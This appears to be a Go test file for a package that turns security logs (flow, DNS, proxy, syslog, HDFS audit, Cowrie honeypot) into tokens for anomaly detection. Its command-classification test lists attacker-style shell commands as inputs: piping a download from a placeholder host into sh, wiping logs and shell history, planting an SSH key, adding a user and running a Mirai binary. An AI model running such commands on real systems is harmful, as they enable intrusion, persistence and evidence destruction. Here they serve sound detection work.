package words

import (
	"bufio"
	"math"
	"os"
	"reflect"
	"sort"
	"strings"
	"sync"
	"testing"
	"time"
	"unsafe"
)

// base returns a row of format f with every number absent.
func base(f string) Row {
	return Row{Format: f, Time: time.Date(2026, 11, 21, 13, 5, 0, 0, time.UTC),
		SrcPort: -1, DstPort: -1, FlowBytes: -1, FlowPackets: -1, DNSFrameLen: -1, HTTPStatus: -1}
}

func words(s *Stats, r Row) []Pair { return s.Words(nil, &r) }

func TestFlowEdges(t *testing.T) {
	s := NewStats(Options{})
	flow := func(src string, sp int32, dst string, dp int32, mod ...func(*Row)) Row {
		r := base("vpcflow")
		r.SrcIP, r.SrcPort, r.DstIP, r.DstPort = src, sp, dst, dp
		r.Proto, r.FlowBytes, r.FlowPackets = "tcp", 100, 2
		for _, m := range mod {
			m(&r)
		}
		return r
	}
	cases := []struct {
		name string
		row  Row
		want []Pair
	}{
		{"both ports 0", flow("10.0.0.1", 0, "10.0.0.2", 0), []Pair{{"10.0.0.1", "0_6_13_7_2"}, {"10.0.0.2", "0_6_13_7_2"}}},
		{"both ports absent", flow("10.0.0.1", -1, "10.0.0.2", -1), []Pair{{"10.0.0.1", "0_6_13_7_2"}, {"10.0.0.2", "0_6_13_7_2"}}},
		{"both high", flow("10.0.0.1", 1025, "10.0.0.2", 65535), []Pair{{"10.0.0.1", "333333_6_13_7_2"}, {"10.0.0.2", "333333_6_13_7_2"}}},
		{"both low", flow("10.0.0.1", 1024, "10.0.0.2", 1), []Pair{{"10.0.0.1", "111111_6_13_7_2"}, {"10.0.0.2", "111111_6_13_7_2"}}},
		{"1024 is low", flow("10.0.0.1", 1024, "10.0.0.2", 1025), []Pair{{"10.0.0.1", "-1_1024_6_13_7_2"}, {"10.0.0.2", "1024_6_13_7_2"}}},
		{"0 is no port: high against 0", flow("10.0.0.1", 5000, "10.0.0.2", 0), []Pair{{"10.0.0.1", "-1_5000_6_13_7_2"}, {"10.0.0.2", "5000_6_13_7_2"}}},
		{"0 is no port: 0 against low", flow("10.0.0.1", 0, "10.0.0.2", 53), []Pair{{"10.0.0.1", "53_6_13_7_2"}, {"10.0.0.2", "-1_53_6_13_7_2"}}},
		{"absent against low", flow("10.0.0.1", 123, "10.0.0.2", -1), []Pair{{"10.0.0.1", "-1_123_6_13_7_2"}, {"10.0.0.2", "123_6_13_7_2"}}},
		{"missing source", flow("", 50000, "10.0.0.2", 443), []Pair{{"10.0.0.2", "-1_443_6_13_7_2"}}},
		{"missing destination", flow("10.0.0.1", 50000, "-", 443), []Pair{{"10.0.0.1", "443_6_13_7_2"}}},
		{"no addresses", flow("", 50000, "", 443), nil},
		{"ipv6", flow("2001:db8::1", 50000, "2001:db8::2", 22), []Pair{{"2001:db8::1", "22_6_13_7_2"}, {"2001:db8::2", "-1_22_6_13_7_2"}}},
		{"upper-case protocol", flow("a", 1, "b", 1, func(r *Row) { r.Proto = "UDP" }), []Pair{{"a", "111111_17_13_7_2"}, {"b", "111111_17_13_7_2"}}},
		{"icmp6", flow("a", 0, "b", 0, func(r *Row) { r.Proto = "icmp6" }), []Pair{{"a", "0_58_13_7_2"}, {"b", "0_58_13_7_2"}}},
		{"no protocol", flow("a", 0, "b", 0, func(r *Row) { r.Proto = "" }), []Pair{{"a", "0_-_13_7_2"}, {"b", "0_-_13_7_2"}}},
		{"odd protocol", flow("a", 0, "b", 0, func(r *Row) { r.Proto = "my_proto x" }), []Pair{{"a", "0_my-proto?x_13_7_2"}, {"b", "0_my-proto?x_13_7_2"}}},
		{"zero and absent counts", flow("a", 0, "b", 0, func(r *Row) { r.FlowBytes, r.FlowPackets = 0, -1 }), []Pair{{"a", "0_6_13_0_0"}, {"b", "0_6_13_0_0"}}},
		{"huge counts", flow("a", 0, "b", 0, func(r *Row) { r.FlowBytes, r.FlowPackets = math.MaxInt64, 1 }), []Pair{{"a", "0_6_13_63_1"}, {"b", "0_6_13_63_1"}}},
		{"zero time", flow("a", 0, "b", 0, func(r *Row) { r.Time = time.Time{} }), []Pair{{"a", "0_6_0_7_2"}, {"b", "0_6_0_7_2"}}},
		{"time in another zone", flow("a", 0, "b", 0, func(r *Row) { r.Time = r.Time.In(time.FixedZone("X", 5*3600)) }), []Pair{{"a", "0_6_13_7_2"}, {"b", "0_6_13_7_2"}}},
		{"nfdump too", flow("a", 0, "b", 0, func(r *Row) { r.Format = "nfdump" }), []Pair{{"a", "0_6_13_7_2"}, {"b", "0_6_13_7_2"}}},
	}
	for _, c := range cases {
		if got := words(s, c.row); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
		}
	}
}

func TestDNSEdges(t *testing.T) {
	s := NewStats(Options{AllowDomains: []string{"Corp.Example.", "*.intra.net", "wpad"}})
	dns := func(q string, mod ...func(*Row)) Row {
		r := base("dns")
		r.SrcIP, r.DstIP, r.DNSQuery, r.DNSQType, r.DNSRCode, r.DNSFrameLen = "10.0.0.1", "10.0.0.2", q, "A", "NOERROR", 100
		for _, m := range mod {
			m(&r)
		}
		return r
	}
	cases := []struct {
		name string
		row  Row
		want string // the one word; "" for no pair
	}{
		{"empty name", dns(""), "0_6_13_0_0_0_A_NOERROR"},
		{"dash name", dns("-"), "0_6_13_0_0_0_A_NOERROR"},
		{"IPv4 as a name", dns("8.8.8.8"), "0_6_13_0_0_2_A_NOERROR"},
		{"IPv6 as a name", dns("2001:db8::1"), "0_6_13_0_0_0_A_NOERROR"},
		{"single label", dns("intranet"), "0_6_13_0_0_0_A_NOERROR"},
		{"single label allow-listed", dns("WPAD."), "2_6_13_0_0_0_A_NOERROR"},
		{"a public suffix", dns("co.uk"), "0_6_13_0_0_1_A_NOERROR"},
		{"registrable only", dns("google.com"), "1_6_13_0_0_1_A_NOERROR"},
		{"trailing dots and case", dns("WWW.Google.COM.."), "1_6_13_2_0_1_A_NOERROR"},
		{"allow-listed, case and dot in the option", dns("a.b.corp.example"), "2_6_13_2_2_2_A_NOERROR"},
		{"allow-listed with a wildcard option", dns("x.intra.net"), "2_6_13_1_0_1_A_NOERROR"},
		{"allow-list matches labels, not text", dns("notcorp.example"), "0_6_13_0_0_1_A_NOERROR"},
		{"empty label inside (the subdomain keeps it)", dns("a..b.com"), "0_6_13_1_1_2_A_NOERROR"},
		{"leading dot (kept: odd names look odd)", dns(".www.google.com"), "1_6_13_2_1_2_A_NOERROR"},
		{"unicode name", dns("пример.испытание.рф"), "0_6_13_3_3_1_A_NOERROR"},
		{"punycode", dns("xn--e1afmkfd.xn--80akhbyknj4f"), "0_6_13_0_0_1_A_NOERROR"},
		{"CDN edge under a private suffix", dns("e1234.a.akamaiedge.net"), "1_6_13_3_3_2_A_NOERROR"},
		{"no client", dns("google.com", func(r *Row) { r.DstIP = "" }), ""},
		{"no frame length, type or code", dns("google.com", func(r *Row) { r.DNSFrameLen, r.DNSQType, r.DNSRCode = -1, "", "" }), "1_0_13_0_0_1_-_-"},
	}
	for _, c := range cases {
		got := words(s, c.row)
		var w string
		if len(got) == 1 && got[0].Doc == "10.0.0.2" {
			w = got[0].Word
		} else if len(got) != 0 {
			t.Errorf("%s: pairs %q", c.name, got)
			continue
		}
		if w != c.want {
			t.Errorf("%s: got %q, want %q", c.name, w, c.want)
		}
	}
}

func TestSplitDomain(t *testing.T) {
	cases := []struct{ name, reg, sub string }{
		{"www.example.com", "example.com", "www"},
		{"example.com", "example.com", ""},
		{"a.b.example.co.uk", "example.co.uk", "a.b"},
		{"bucket.s3.amazonaws.com", "amazonaws.com", "bucket.s3"},
		{"ec2-1-2-3-4.eu-west-1.compute.amazonaws.com", "amazonaws.com", "ec2-1-2-3-4.eu-west-1.compute"},
		{"x.blogspot.co.uk", "blogspot.co.uk", "x"},
		{"me.github.io", "github.io", "me"},
		{"x.amazonaws.com.cn", "amazonaws.com.cn", "x"},
		{"host.corp.local", "corp.local", "host"},
		{"25.0.0.10.in-addr.arpa", "10.in-addr.arpa", "25.0.0"},
		{"foo.bar.ck", "foo.bar.ck", ""}, // *.ck: bar.ck is a suffix
		{"www.ck", "www.ck", ""},         // !www.ck
		{"co.uk", "", ""},
		{"com", "", ""},
		{"wpad", "", ""},
		{"8.8.8.8", "", ""},
		{"::1", "", ""},
		{"1.2.3.4.5", "", ""},
		{"a..com", "", ""},
		{"", "", ""},
	}
	for _, c := range cases {
		reg, sub := splitDomain(c.name)
		if reg != c.reg || sub != c.sub {
			t.Errorf("splitDomain(%q) = %q, %q; want %q, %q", c.name, reg, sub, c.reg, c.sub)
		}
	}
}

func TestWebEdges(t *testing.T) {
	s := NewStats(Options{})
	web := func(mod func(*Row)) Row {
		r := base("squid")
		r.Source, r.SrcIP, r.HTTPMethod, r.HTTPURL, r.HTTPStatus = "proxy", "10.0.0.1", "GET", "http://example.com/", 200
		mod(&r)
		return r
	}
	for _, ua := range []string{"curl/8", "curl/8", "curl/8", "", "-"} {
		r := web(func(r *Row) { r.HTTPUserAgent = ua })
		s.Observe(&r)
	}
	other := web(func(r *Row) { r.Source, r.HTTPUserAgent = "other", "curl/8" })
	s.Observe(&other)
	if n := s.userAgentCount("proxy", "curl/8"); n != 3 {
		t.Errorf("curl/8 counted %d times, want 3 (counts are per source)", n)
	}
	if a, b := s.userAgentCount("proxy", ""), s.userAgentCount("proxy", "-"); a != 2 || b != 2 {
		t.Errorf("no user agent counted %d/%d times, want 2 (\"\" and \"-\" are the same)", a, b)
	}
	cases := []struct {
		name string
		row  Row
		want []Pair
	}{
		{"seen 3 times", web(func(r *Row) { r.HTTPUserAgent = "curl/8" }), []Pair{{"10.0.0.1", "0_13_GET_0_none_1_1_200"}}},
		{"never seen", web(func(r *Row) { r.HTTPUserAgent = "new" }), []Pair{{"10.0.0.1", "0_13_GET_0_none_0_1_200"}}},
		{"dash fields", web(func(r *Row) { r.HTTPURL, r.HTTPMethod, r.HTTPContentType, r.HTTPUserAgent = "-", "-", "-", "-" }), []Pair{{"10.0.0.1", "0_13_-_0_none_1_0_200"}}},
		{"no status", web(func(r *Row) { r.HTTPStatus = -1 }), []Pair{{"10.0.0.1", "0_13_GET_0_none_1_1_-"}}},
		{"host from URL with user info and port", web(func(r *Row) { r.HTTPURL = "http://u:p@WWW.GOOGLE.com:8080/a?b" }), []Pair{{"10.0.0.1", "1_13_GET_2_none_1_2_200"}}},
		{"IPv6 literal host", web(func(r *Row) { r.HTTPURL = "http://[2001:db8::80]:8080/x?y=1" }), []Pair{{"10.0.0.1", "0_13_GET_3_none_1_2_200"}}},
		{"IPv6 host column", web(func(r *Row) { r.HTTPHost = "2001:db8::80" }), []Pair{{"10.0.0.1", "0_13_GET_0_none_1_1_200"}}},
		{"content type with charset", web(func(r *Row) { r.HTTPContentType = "Text/HTML; charset=UTF-8" }), []Pair{{"10.0.0.1", "0_13_GET_0_html_1_1_200"}}},
		{"host name as client", web(func(r *Row) { r.SrcIP, r.SrcHost = "", "ws12.corp.example" }), []Pair{{"ws12.corp.example", "0_13_GET_0_none_1_1_200"}}},
		{"no client", web(func(r *Row) { r.SrcIP = "-" }), nil},
		{"unicode path", web(func(r *Row) { r.HTTPURL = "http://example.com/日本" }), []Pair{{"10.0.0.1", "0_13_GET_2_none_1_3_200"}}},
	}
	for _, c := range cases {
		if got := words(s, c.row); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
		}
	}
}

// TestICANNFastPath checks that the fast path of icannSuffix agrees with
// the Public Suffix List, in particular for private suffixes under com, net
// and org.
func TestICANNFastPath(t *testing.T) {
	for _, name := range []string{
		"com", "example.com", "www.example.com", "x.br.com", "x.us.com", "a.blogspot.com",
		"bucket.s3.amazonaws.com", "ec2-1-2-3-4.compute-1.amazonaws.com", "x.herokuapp.com",
		"x.appspot.com", "x.cloudfunctions.net", "a.b.cloudfront.net", "e1.a.akamaiedge.net",
		"x.azurewebsites.net", "x.ddns.net", "x.za.net", "x.gb.net", "x.dyndns.org", "x.eu.org",
		"x.us.org", "x.githubusercontent.com", "x.fastly.net", "x.global.ssl.fastly.net",
	} {
		if fast, slow := icannSuffix(name), icannSuffixPSL(name); fast != slow {
			t.Errorf("icannSuffix(%q) = %q, the list says %q", name, fast, slow)
		}
	}
}

func TestHostAndPath(t *testing.T) {
	hosts := []struct{ host, url, method, want string }{
		{"", "http://www.cnn.com/", "GET", "www.cnn.com"},
		{"Example.COM", "http://ignored/", "GET", "example.com"},
		{"", "https://user:pw@host.example:8080/path", "GET", "host.example"},
		{"", "www.google.com:443", "CONNECT", "www.google.com"},
		{"", "/index.html", "GET", ""},
		{"", "http://[2001:db8::80]:8080/x", "GET", "2001:db8::80"},
		{"[2001:db8::1]", "", "GET", "2001:db8::1"},
		{"2001:db8::1", "", "GET", "2001:db8::1"},
		{"host.example.:80", "", "GET", "host.example"},
		{"-", "http://a.b/", "GET", "a.b"},
		{"", "error:invalid-request", "NONE", ""},
	}
	for _, c := range hosts {
		if got := hostOf(c.host, c.url, c.method); got != c.want {
			t.Errorf("hostOf(%q, %q, %q) = %q, want %q", c.host, c.url, c.method, got, c.want)
		}
	}
	paths := []struct{ url, method, want string }{
		{"/a/b?c=1", "GET", "/a/b?c=1"},
		{"http://h/a/b?c=1", "GET", "/a/b?c=1"},
		{"http://h?c=1", "GET", "?c=1"},
		{"http://h", "GET", ""},
		{"www.google.com:443", "CONNECT", ""},
		{"*", "OPTIONS", "*"},
		{"-", "GET", ""},
		{"", "GET", ""},
	}
	for _, c := range paths {
		if got := pathQuery(c.url, c.method); got != c.want {
			t.Errorf("pathQuery(%q, %q) = %q, want %q", c.url, c.method, got, c.want)
		}
	}
	types := map[string]string{
		"": "none", "-": "none", "text/html": "html", "TEXT/HTML;charset=utf-8": "html",
		"application/xhtml+xml": "html", "image/png": "image", "Image/GIF": "image",
		"application/javascript": "js", "text/javascript": "js", "application/x-javascript": "js",
		"application/json": "json", "application/vnd.api+json": "json",
		"application/octet-stream": "binary", "application/x-msdownload": "binary", "application/ZIP": "binary",
		"text/plain": "other", "text/css": "other", "application/xml": "other", "garbage": "other",
	}
	for ct, want := range types {
		if got := contentClass(ct); got != want {
			t.Errorf("contentClass(%q) = %q, want %q", ct, got, want)
		}
	}
}

func TestEntropy(t *testing.T) {
	alpha := "abcdefghijklmnopqrstuvwxyz0123456789"
	cases := []struct {
		s    string
		h    float64
		bin  int64
		name string
	}{
		{"", 0, 0, "empty"},
		{"wwww", 0, 0, "one character"},
		{"ab", 1, 1, "two"},
		{"abcd", 2, 2, "four"},
		{"abcdabcdabcd", 2, 2, "four, repeated"},
		{"abcdefgh", 3, 3, "eight"},
		{alpha[:16], 4, 4, "sixteen"},
		{alpha[:32], 5, 5, "thirty-two"},
		{alpha[:33], math.Log2(33), 6, "thirty-three"},
		{"日本日本", 1, 1, "unicode"},
		{"a\xff", 1, 1, "invalid UTF-8"},
	}
	for _, c := range cases {
		h := entropy(c.s)
		if math.Abs(h-c.h) > 1e-12 {
			t.Errorf("%s: entropy(%q) = %v, want %v", c.name, c.s, h, c.h)
		}
		if b := entropyBin(h); b != c.bin {
			t.Errorf("%s: entropyBin(%v) = %d, want %d", c.name, h, b, c.bin)
		}
	}
	for _, h := range []float64{math.NaN(), math.Inf(1), math.Inf(-1), -3} {
		if b := entropyBin(h); b < 0 || b > maxEntropyBin {
			t.Errorf("entropyBin(%v) = %d", h, b)
		}
	}
	if b := entropyBin(2 + 1e-12); b != 2 {
		t.Errorf("entropyBin just above 2 = %d, want 2", b)
	}
	if b := entropyBin(2 + 1e-6); b != 3 {
		t.Errorf("entropyBin(2+1e-6) = %d, want 3", b)
	}
}

func TestLogBins(t *testing.T) {
	for n, want := range map[int64]int64{-1: 0, 0: 0, 1: 1, 2: 2, 3: 2, 4: 3, 1023: 10, 1024: 11} {
		if got := ceilLog2p1(n); got != want {
			t.Errorf("ceilLog2p1(%d) = %d, want %d", n, got, want)
		}
		if n >= 0 {
			if f := int64(math.Ceil(math.Log2(float64(n) + 1))); f != want {
				t.Errorf("ceil(log2(%d+1)) = %d: the test is wrong", n, f)
			}
		}
	}
	for n, want := range map[int64]int64{-1: 0, 0: 0, 1: 0, 2: 1, 3: 1, 4: 2, 98: 6, 1 << 40: 40} {
		if got := floorLog2(n); got != want {
			t.Errorf("floorLog2(%d) = %d, want %d", n, got, want)
		}
	}
}

func TestTemplate(t *testing.T) {
	cases := []struct{ msg, want string }{
		{"Failed password for root from 216.160.83.57 port 29160 ssh2", "Failed password for root from # port # ssh2"},
		{"Accepted publickey for vagrant from 10.0.2.2 port 63673 ssh2: RSA 39:33:99:e9:a0:dc:f2:33:a3:e5:72:3b:7c:3a:56:84",
			"Accepted publickey for vagrant from # port # ssh2: RSA #"},
		{"Failed password for invalid user admin from 2001:db8::7 port 51122 ssh2", "Failed password for invalid user admin from # port # ssh2"},
		{"connect from fe80::abcd%eth0", "connect from #%eth0"},
		{"Teardown TCP connection 488167725 for Outside_VPN:147.111.72.16/26436 to DMZ-Inside:10.22.8.53/443 duration 0:00:00 bytes 9687 TCP FINs",
			"Teardown TCP connection # for Outside_VPN:# to DMZ-Inside:# duration # bytes # TCP FINs"},
		{"instance d0602076-b14a-4c55-852a-981e7afeed38 removed", "instance # removed"},
		{"session 60f5ce59e788 closed after 2026-11-21T10:00:00Z", "session # closed after #"},
		{`Deny tcp by access-group "outside_in" now`, `Deny tcp by access-group "*" now`},
		{"'su root' failed for lonvick on /dev/pts/8", "'*' failed for lonvick on /dev/pts/#"},
		{"%% It's time to make the do-nuts.", "%% It's time to make the do-nuts."},
		{`unterminated "quote runs to the end`, `unterminated "*"`},
		{"  many   spaces\tand\ttabs  ", " many spaces and tabs "},
		{"token AAAAB3NzaC1yc2EAAAADAQABAAABAQ and x86 SHA256 ED25519", "token # and x86 SHA256 #"},
		{"ünïcödé 42 ☃", "ünïcödé # ☃"},
		{"", ""},
	}
	for _, c := range cases {
		if got := string(appendTemplate(nil, c.msg)); got != c.want {
			t.Errorf("template of %q:\n got  %q\n want %q", c.msg, got, c.want)
		}
	}
	long := strings.Repeat("word ", 100)
	if got := appendTemplate(nil, long); len(got) != maxTemplate {
		t.Errorf("template of a long message has %d bytes, want %d", len(got), maxTemplate)
	}
	id1, _ := Template("", "Failed password for root from 1.2.3.4 port 22 ssh2")
	id2, _ := Template("", "Failed password for root from 5.6.7.8 port 2222 ssh2")
	id3, _ := Template("ID47", "Failed password for root from 5.6.7.8 port 2222 ssh2")
	if id1 != id2 || id1 == id3 || len(id1) != 8 {
		t.Errorf("template ids %q %q %q: want the first two equal, the third (another msgid) different, 8 hex digits", id1, id2, id3)
	}
}

func TestLogEdges(t *testing.T) {
	s := NewStats(Options{})
	cases := []struct {
		name string
		row  Row
		want []Pair
	}{
		{"syslog without any principal", func() Row { r := base("syslog"); r.Message = "x"; return r }(), nil},
		{"syslog with a source host", func() Row {
			r := base("syslog")
			r.SrcHost, r.DvcHost, r.App = "client.example.com", "bastion", "sshd"
			return r
		}(),
			[]Pair{{"client.example.com", "sshd_-_13_" + mustID("", "")}}},
		{"hdfs without user falls back to IP", func() Row {
			r := base("hdfs_audit")
			r.UserName, r.SrcIP, r.EventType, r.Action = "-", "10.0.0.9", "listEncryptionZones", "allowed"
			return r
		}(), []Pair{{"10.0.0.9", "listEncryptionZones_allowed_13_-_-"}}},
		{"hdfs deep path", func() Row {
			r := base("hdfs_audit")
			r.UserName, r.EventType, r.Action, r.FilePath = "bob", "open", "allowed", "/a/b/c/d/e/f/g/h/i/j/k"
			return r
		}(), []Pair{{"bob", "open_allowed_13_8_other"}}},
		{"hdfs /user itself", func() Row {
			r := base("hdfs_audit")
			r.UserName, r.EventType, r.Action, r.FilePath = "bob", "listStatus", "allowed", "/user/"
			return r
		}(), []Pair{{"bob", "listStatus_allowed_13_1_other"}}},
		{"hdfs nothing", base("hdfs_audit"), nil},
		{"navigator empty", func() Row { r := base("navigator"); r.UserName = "u"; return r }(), []Pair{{"u", "-_-_-_13_-"}}},
		{"navigator odd statement", func() Row { r := base("navigator"); r.UserName, r.Message = "u", "  (  SELECT 1)"; return r }(), []Pair{{"u", "-_-_-_13_read"}}},
		{"navigator non-keyword statement", func() Row { r := base("navigator"); r.UserName, r.Message = "u", "/* hint */ select"; return r }(), []Pair{{"u", "-_-_-_13_other"}}},
		{"cowrie without source", func() Row { r := base("cowrie"); r.EventType = "cowrie.session.connect"; return r }(), nil},
		{"cowrie empty command", func() Row {
			r := base("cowrie")
			r.SrcIP, r.EventType, r.Message = "1.2.3.4", "cowrie.command.input", "CMD: "
			return r
		}(),
			[]Pair{{"1.2.3.4", "command.input_-_13_-"}}},
		{"cowrie failed command", func() Row {
			r := base("cowrie")
			r.SrcIP, r.EventType, r.Message = "1.2.3.4", "cowrie.command.failed", "Command not found: ./x "
			return r
		}(), []Pair{{"1.2.3.4", "command.failed_-_13_exec"}}},
		{"jsonl without principal", func() Row { r := base("jsonl"); r.EventType = "x"; return r }(), nil},
		{"jsonl unicode type", func() Row { r := base("jsonl"); r.UserName, r.EventType = "ü", "évé_nt"; return r }(), []Pair{{"ü", "??v??-nt_-_13"}}},
		{"unknown format", func() Row { r := base("zeek"); r.SrcIP = "1.2.3.4"; return r }(), nil},
		{"no format", func() Row { r := base(""); r.SrcIP = "1.2.3.4"; return r }(), nil},
	}
	for _, c := range cases {
		if got := words(s, c.row); !reflect.DeepEqual(got, c.want) {
			t.Errorf("%s: got %q, want %q", c.name, got, c.want)
		}
	}
	if Supported("zeek") || !Supported("cowrie") {
		t.Error("Supported is wrong")
	}
}

func mustID(eventType, msg string) string { id, _ := Template(eventType, msg); return id }

func TestCommandClass(t *testing.T) {
	cases := map[string]string{
		"":                           "-",
		"   ":                        "-",
		"ls -la":                     "recon",
		"LS":                         "recon",
		"cd /tmp":                    "shell",
		"exit":                       "shell",
		"frobnicate --all":           "other",
		"uname -a; cd /tmp":          "recon",
		"cd /tmp && wget http://x/y": "download",
		"curl -s http://x | sh":      "download",
		"sh -c 'echo hi'":            "exec",
		"./mirai.x86":                "exec",
		"/tmp/.x/run":                "exec",
		"/bin/busybox wget http://x": "download",
		"/bin/busybox MIRAI":         "other",
		"sudo -i":                    "other",
		"sudo useradd -m eve":        "persist",
		"nohup ./a &":                "exec",
		"rm -rf /var/log/*":          "cleanup",
		"history -c; unset HISTFILE": "cleanup",
		"echo ssh-rsa AAA >> ~/.ssh/authorized_keys": "persist",
		"cat /proc/cpuinfo | grep name | wc -l":      "recon",
		"echo `uname -a`":                            "recon",
		"$(wget http://x)":                           "download",
		"echo été 😀 > /tmp/файл":                     "shell",
		"ls ☃ 日本語":                                   "recon",
	}
	for in, want := range cases {
		if got := commandClass(in); got != want {
			t.Errorf("commandClass(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestPopularList checks the embedded list: lower case, no duplicates,
// sorted within each group, and every entry its own registrable domain
// (otherwise it could never match).
func TestPopularList(t *testing.T) {
	seen := map[string]bool{}
	var group []string
	check := func() {
		if !sort.StringsAreSorted(group) {
			t.Errorf("group not sorted: %v", group)
		}
		group = nil
	}
	sc := bufio.NewScanner(strings.NewReader(embeddedPopular))
	for sc.Scan() {
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			check()
			continue
		}
		group = append(group, line)
		if seen[line] {
			t.Errorf("%q twice", line)
		}
		seen[line] = true
		if line != strings.ToLower(line) {
			t.Errorf("%q is not lower case", line)
		}
		if reg, _ := splitDomain(line); reg != line {
			t.Errorf("%q is not a registrable domain (that is %q)", line, reg)
		}
	}
	check()
	if len(seen) < 50 {
		t.Errorf("only %d popular domains", len(seen))
	}
	s := NewStats(Options{PopularDomains: []string{"www.Example.com.", ""}})
	if len(s.popular) != 1 || s.domainClass("a.example.com", "example.com") != classPopular {
		t.Errorf("PopularDomains override: %v", s.popular)
	}
	if s.domainClass("www.google.com", "google.com") != classOther {
		t.Error("PopularDomains must replace the embedded list")
	}
}

// TestObserveCopies checks that Observe keeps its own copy of the strings it
// stores: a caller may reuse the memory behind a Row.
func TestObserveCopies(t *testing.T) {
	s := NewStats(Options{})
	buf := []byte("curl/8.0")
	src := []byte("proxy")
	r := base("squid")
	r.Source, r.HTTPUserAgent = unsafe.String(&src[0], len(src)), unsafe.String(&buf[0], len(buf))
	s.Observe(&r)
	s.Observe(&r)
	copy(buf, "wget/1.2")
	copy(src, "other")
	if n := s.userAgentCount("proxy", "curl/8.0"); n != 2 {
		t.Errorf("count after the caller reused its memory = %d, want 2", n)
	}
}

// corpusRows reads testdata/events.jsonl.
func corpusRows(t testing.TB) []Row {
	f, err := os.Open("testdata/events.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	var rows []Row
	sc := bufio.NewScanner(f)
	sc.Buffer(nil, 1<<20)
	for sc.Scan() {
		r, _, err := rowFromEvent(sc.Bytes())
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, r)
	}
	return rows
}

// TestDeterminism checks that the words do not depend on the order rows are
// observed in, nor on concurrent use of Words.
func TestDeterminism(t *testing.T) {
	rows := corpusRows(t)
	all := func(s *Stats) [][]Pair {
		out := make([][]Pair, len(rows))
		for i := range rows {
			out[i] = s.Words(nil, &rows[i])
		}
		return out
	}
	a := NewStats(Options{})
	for i := range rows {
		a.Observe(&rows[i])
	}
	b := NewStats(Options{})
	for i := len(rows) - 1; i >= 0; i-- {
		b.Observe(&rows[i])
	}
	wa, wb := all(a), all(b)
	if !reflect.DeepEqual(wa, wb) {
		t.Fatal("words depend on the order of Observe")
	}
	par := make([][]Pair, len(rows))
	var wg sync.WaitGroup
	for g := range 4 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			for i := g; i < len(rows); i += 4 {
				par[i] = a.Words(nil, &rows[i])
			}
		}()
	}
	wg.Wait()
	if !reflect.DeepEqual(wa, par) {
		t.Fatal("concurrent Words differ")
	}
	for i, ps := range wa {
		for _, p := range ps {
			checkWord(t, rows[i].Format, p)
		}
	}
}

// checkWord checks the invariants of every word: printable ASCII without
// spaces, no empty part, a document. (Numbers in words are integers made
// by integer arithmetic or a clamped bin: there is no float to print.)
func checkWord(t *testing.T, format string, p Pair) {
	t.Helper()
	if p.Doc == "" || p.Doc == "-" {
		t.Errorf("%s: empty document for %q", format, p.Word)
	}
	w := strings.TrimPrefix(p.Word, serverPrefix)
	if w == "" || strings.Contains(w, "__") || strings.HasPrefix(w, "_") || strings.HasSuffix(w, "_") {
		t.Errorf("%s: word %q has an empty part", format, p.Word)
	}
	for i := 0; i < len(p.Word); i++ {
		if c := p.Word[i]; c <= ' ' || c >= 0x7f {
			t.Errorf("%s: word %q has byte %#x", format, p.Word, c)
			break
		}
	}
}

// FuzzWords feeds arbitrary text and numbers to every recipe: no panic, and
// the word invariants hold.
func FuzzWords(f *testing.F) {
	f.Add("dns", "www.example.com", "10.0.0.1", int32(53), int64(100), "GET")
	f.Add("squid", "http://[::1]:80/x?y", "", int32(-1), int64(-1), "CONNECT")
	f.Add("syslog", "\"unterminated 1.2.3.4:5", "h", int32(0), int64(0), "")
	f.Add("cowrie", "CMD: ;;; | & `", "1.2.3.4", int32(0), int64(0), "")
	f.Add("hdfs_audit", "hdfs://", "-", int32(0), int64(0), "x")
	f.Fuzz(func(t *testing.T, format, text, ip string, port int32, n int64, method string) {
		formats := []string{"vpcflow", "nfdump", "dns", "apache", "squid", "syslog", "hdfs_audit", "navigator", "cowrie", "jsonl"}
		s := NewStats(Options{AllowDomains: []string{text}})
		for _, fm := range append(formats, format) {
			r := Row{Format: fm, SrcIP: ip, DstIP: ip, Proto: text, SrcPort: port, DstPort: -port,
				FlowBytes: n, FlowPackets: -n, DNSQuery: text, DNSQType: text, DNSRCode: method,
				DNSFrameLen: port, HTTPMethod: method, HTTPURL: text, HTTPHost: text, HTTPUserAgent: text,
				HTTPContentType: text, HTTPStatus: port, EventType: text, Action: method, Severity: text,
				App: text, Message: text, UserName: ip, FilePath: text, DvcHost: ip, SrcHost: text, Input: text,
				Time: time.Unix(n%(1<<40), 0)}
			s.Observe(&r)
			for _, p := range s.Words(nil, &r) {
				checkWord(t, fm, p)
			}
		}
	})
}
